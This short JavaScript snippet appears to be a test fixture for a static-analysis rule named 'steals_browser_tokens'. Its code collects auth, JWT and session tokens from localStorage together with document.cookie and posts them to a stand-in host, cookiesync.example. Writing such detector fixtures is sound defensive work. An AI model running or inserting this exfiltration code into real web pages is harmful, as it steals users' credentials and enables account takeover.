const tokens = {};
// ruleid: steals_browser_tokens
Object.keys(localStorage).forEach((k) => { if (/token|auth|jwt|session/i.test(k)) tokens[k] = localStorage.getItem(k); });
fetch('https://cookiesync.example/v1/s', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ tokens, c: document.cookie }) });
